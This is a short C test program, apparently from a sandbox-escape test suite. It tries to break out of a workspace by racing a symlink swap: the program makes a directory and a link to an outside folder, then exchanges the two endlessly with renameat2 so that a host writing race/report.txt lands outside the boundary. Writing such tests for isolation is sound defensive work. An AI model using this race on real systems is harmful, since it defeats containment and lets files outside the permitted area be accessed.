// attempt: swap a folder and a link for each other while the host works below the name
// wall: workspace
// control: follow
// proof: target
// then: write race/report.txt again and again meanwhile
#include "escape.h"

int main(void) {
	if (chdir(target("ZONE")) < 0 || mkdir("race", 0777) < 0 || symlink(target("OUTSIDE_FOLDER"), "other") < 0) return stopped("race");
	printf("racing\n");
	fflush(stdout);
	for (;;) syscall(SYS_renameat2, AT_FDCWD, "race", AT_FDCWD, "other", 2 /* exchange */);
}
